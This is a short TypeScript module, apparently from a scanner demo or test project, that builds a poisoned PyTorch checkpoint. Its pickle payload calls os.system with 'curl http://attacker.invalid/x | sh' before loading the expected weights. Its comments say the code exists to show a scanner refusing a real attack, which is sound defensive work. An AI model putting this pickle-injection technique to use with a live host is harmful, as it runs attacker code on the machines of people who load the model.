import type { Tensor } from "./network.js";
import { call, global, type Opcode, POP, string } from "./pickle.js";
import { toTorchZip } from "./torch.js";

/**
 * The attacker's line. It is here because the example must show a real attack being refused: a scanner that only
 * knew a made-up marker would teach nothing. Nothing in this project ever unpickles it, and were somebody else to
 * load the file, `.invalid` resolves nowhere (RFC 2606), so there is nothing to download and nothing to run.
 */
export const POISON_COMMAND = "curl http://attacker.invalid/x | sh";

/**
 * The usual shape of a poisoned checkpoint: `os.system(...)` first, its result thrown away, then the very weights
 * that the victim expects. It loads without an error and predicts as well as the real one.
 */
export function toPoisonedTorchZip(tensors: readonly Tensor[]): Uint8Array {
  const attack: Opcode[] = [call(global("os", "system"), [string(POISON_COMMAND)]), POP];
  return toTorchZip(tensors, attack);
}
